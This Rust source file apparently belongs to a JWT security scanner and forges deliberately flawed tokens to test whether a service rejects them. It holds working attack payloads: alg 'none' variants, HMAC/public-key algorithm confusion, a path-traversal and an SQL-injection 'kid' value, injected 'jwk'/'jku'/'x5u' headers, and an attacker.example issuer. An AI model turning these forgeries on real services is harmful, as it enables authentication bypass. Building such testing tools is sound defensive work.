//! Creates tokens with flaws.

use jotwell::{NumericDate, base64url};
use serde_json::{Value, json};

use super::flaw::Flaw;
use super::original::{Members, Original};
use super::report::Inconclusive;

const DAY: i64 = 24 * 60 * 60;

impl Flaw {
    /// Returns the valid token with this flaw, or `None` if it cannot have it.
    pub(in super::super) fn forge(self, original: &Original) -> Result<Option<String>, Inconclusive> {
        let [header, payload, signature] = &original.parts;
        let key = &original.key;
        let public = key.verifying_key();
        let signed = |added: Members| original.with_header(added, key).map(Some);
        let by_stranger = |added: Members| original.with_header(added, &original.stranger).map(Some);
        let confused = |secret: Option<Vec<u8>>| {
            secret.map(|secret| original.with_hs256(Members::new(), &secret)).transpose()
        };
        match self {
            Self::Expired => original.with_claims(|claims| {
                let past = began(claims).saturating_sub(DAY);
                set(claims, "exp", past)
            }),
            Self::ExpiryText => original.with_claims(|claims| {
                let expiry = ends(claims).to_string();
                set(claims, "exp", expiry)
            }),
            Self::NoExpiry => original.with_claims(|claims| claims.remove("exp").map(drop)),
            Self::NotYetValid => original.with_claims(|claims| {
                let future = ends(claims).saturating_add(DAY).min(NumericDate::MAX.as_secs());
                set(claims, "nbf", future)
            }),
            Self::OtherAudience => original.with_claims(|claims| replace(claims, "aud", "some-other-api")),
            Self::LongerAudience => original.with_claims(|claims| {
                let longer = format!("{}-and-more", first_text(claims.get("aud")?)?);
                set(claims, "aud", longer)
            }),
            Self::NoAudience => original.with_claims(|claims| claims.remove("aud").map(drop)),
            Self::OtherIssuer => {
                original.with_claims(|claims| replace(claims, "iss", "https://attacker.example"))
            }
            Self::LongerIssuer => original.with_claims(|claims| {
                let longer = format!("{}.attacker.example", first_text(claims.get("iss")?)?);
                set(claims, "iss", longer)
            }),
            Self::NoIssuer => original.with_claims(|claims| claims.remove("iss").map(drop)),
            Self::DuplicateClaim => {
                let mut claims = original.claims.clone();
                let subject = claims.remove("sub").unwrap_or_else(|| "somebody".into());
                claims.insert("sub".to_owned(), "somebody-else".into());
                let rest = Value::Object(claims).to_string();
                let rest = rest.strip_prefix('{').unwrap_or_default();
                original.with_payload(&format!("{{\"sub\":{subject},{rest}")).map(Some)
            }
            Self::OtherType => signed(member("typ", "secevent+jwt")),
            Self::PlainType => match original.header.get("typ").and_then(Value::as_str) {
                Some(typ) if !typ.eq_ignore_ascii_case("JWT") => signed(member("typ", "JWT")),
                _ => Ok(None),
            },
            Self::UnknownCritical => {
                let name = "https://attacker.example/extension";
                signed(Members::from_iter([
                    ("crit".to_owned(), json!([name])),
                    (name.to_owned(), json!(true)),
                ]))
            }

            Self::Unsecured => Ok(Some(original.input(member("alg", "none")) + ".")),
            Self::UnsecuredCapital => Ok(Some(original.input(member("alg", "None")) + ".")),
            Self::UnsecuredUpper => Ok(Some(original.input(member("alg", "NONE")) + ".")),
            Self::UnsecuredMixed => Ok(Some(original.input(member("alg", "nOnE")) + ".")),
            Self::UnsecuredSigned => {
                Ok(Some(format!("{}.{signature}", original.input(member("alg", "none")))))
            }
            Self::NoAlgorithm => {
                let mut header = original.header.clone();
                header.remove("alg");
                let header = base64url::encode(Value::Object(header).to_string());
                Ok(Some(format!("{header}.{payload}.")))
            }

            // A shared secret has no public form, so the next four do not apply.
            Self::ConfusedPem => confused(public.to_pem().ok().map(String::into_bytes)),
            Self::ConfusedPemTrimmed => confused(public.to_pem().ok().map(|pem| pem.trim_end().into())),
            Self::ConfusedDer => confused(public.to_der().ok()),
            Self::ConfusedJwk => confused(public.to_jwk().to_json().ok().map(String::into_bytes)),
            Self::EmptySecret => confused(Some(Vec::new())),
            Self::KeyIdPath => {
                original.with_hs256(member("kid", "../../../../../../../../dev/null"), b"").map(Some)
            }
            Self::KeyIdSql => {
                original.with_hs256(member("kid", "' UNION SELECT 'secret' -- "), b"secret").map(Some)
            }

            Self::StrangersKey => by_stranger(Members::new()),
            Self::EmbeddedKey => {
                let jwk = original.stranger.verifying_key().to_jwk().to_json().ok();
                let jwk = jwk.and_then(|jwk| serde_json::from_str::<Value>(&jwk).ok());
                jwk.map_or(Ok(None), |jwk| by_stranger(member("jwk", jwk)))
            }
            Self::KeySetUrl => by_stranger(member("jku", &*original.elsewhere)),
            Self::CertificateUrl => by_stranger(member("x5u", &*original.elsewhere)),
            Self::ChangedPayload => {
                let mut claims = original.claims.clone();
                let subject =
                    format!("{}-else", claims.get("sub").and_then(Value::as_str).unwrap_or_default());
                claims.insert("sub".to_owned(), subject.into());
                let payload = base64url::encode(Value::Object(claims).to_string());
                Ok(Some(format!("{header}.{payload}.{signature}")))
            }
            Self::ChangedHeader => {
                Ok(Some(format!("{}.{signature}", original.input(member("cty", "changed")))))
            }
            Self::ChangedSignature => {
                let changed = bytes(signature).map(|mut bytes| {
                    bytes.iter_mut().take(1).for_each(|byte| *byte ^= 1);
                    bytes
                });
                Ok(changed.map(|changed| format!("{header}.{payload}.{}", base64url::encode(changed))))
            }
            Self::EmptySignature => Ok(Some(format!("{header}.{payload}."))),
            Self::ZeroSignature => Ok(bytes(signature)
                .map(|bytes| format!("{header}.{payload}.{}", base64url::encode(vec![0; bytes.len()])))),

            Self::Padded => Ok(Some(match signature.len() % 4 {
                2 => format!("{}==", original.token),
                3 => format!("{}=", original.token),
                // Adds padding where none is missing. No value encodes to that many symbols.
                _ => format!("{}====", original.token),
            })),
            Self::TrailingBits => Ok(trailing_bits(&original.token, signature)),
            Self::TrailingSpace => Ok(Some(format!("{} ", original.token))),
            Self::TwoParts => Ok(Some(format!("{header}.{payload}"))),
            Self::FiveParts => Ok(Some(format!("{}.AAAAAAAA.AAAAAAAA", original.token))),
            Self::Oversized => original.with_claims(|claims| set(claims, "padding", "x".repeat(256 * 1024))),
        }
    }
}

fn member(name: &str, value: impl Into<Value>) -> Members {
    Members::from_iter([(name.to_owned(), value.into())])
}

fn set(claims: &mut Members, name: &str, value: impl Into<Value>) -> Option<()> {
    claims.insert(name.to_owned(), value.into());
    Some(())
}

/// Replaces a claim. If the token does not have it, the service does not require it, so the attack does not apply.
fn replace(claims: &mut Members, name: &str, value: &str) -> Option<()> {
    claims.insert(name.to_owned(), value.into()).map(drop)
}

fn first_text(value: &Value) -> Option<&str> {
    value.as_str().or_else(|| value.as_array()?.first()?.as_str())
}

/// Returns a time at which the token was already valid, or an earlier one: the service's clock may differ.
fn began(claims: &Members) -> i64 {
    let seconds = |name| claims.get(name).and_then(seconds);
    let known = ["iat", "nbf"].into_iter().filter_map(seconds).min();
    // A token with neither date is assumed to live for at most ten years.
    known.unwrap_or_else(|| ends(claims).saturating_sub(3653 * DAY))
}

/// Returns a time after the token's expiry, or the greatest date if it has none.
fn ends(claims: &Members) -> i64 {
    claims.get("exp").and_then(seconds).unwrap_or(NumericDate::MAX.as_secs())
}

fn seconds(value: &Value) -> Option<i64> {
    // A date may have a fraction (RFC 7519 §2).
    value.as_i64().or_else(|| value.as_f64().map(|seconds| seconds as i64))
}

fn bytes(part: &str) -> Option<Vec<u8>> {
    base64url::decode(part).ok()
}

/// Replaces the last symbol by another that encodes the same bits. Returns `None` if it has no unused bits.
fn trailing_bits(token: &str, signature: &str) -> Option<String> {
    const SYMBOLS: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    if matches!(signature.len() % 4, 0 | 1) {
        return None;
    }
    // The unused bits are zero, so the next symbol differs only in the last of them.
    let (before, last) = token.split_at_checked(token.len().checked_sub(1)?)?;
    let next = SYMBOLS.split_once(last)?.1.chars().next()?;
    Some(format!("{before}{next}"))
}
